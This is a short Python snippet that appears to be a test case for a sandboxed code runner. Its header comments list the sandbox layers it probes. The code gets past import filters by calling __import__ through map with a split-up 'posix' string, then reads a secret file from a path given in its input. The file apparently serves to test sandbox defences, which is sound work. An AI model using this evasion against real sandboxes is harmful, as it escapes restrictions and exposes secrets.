# class: import machinery
# technique: the import function called by map
# layers: interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
reached = list(map(__import__, ["po" + "six"]))[0]
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
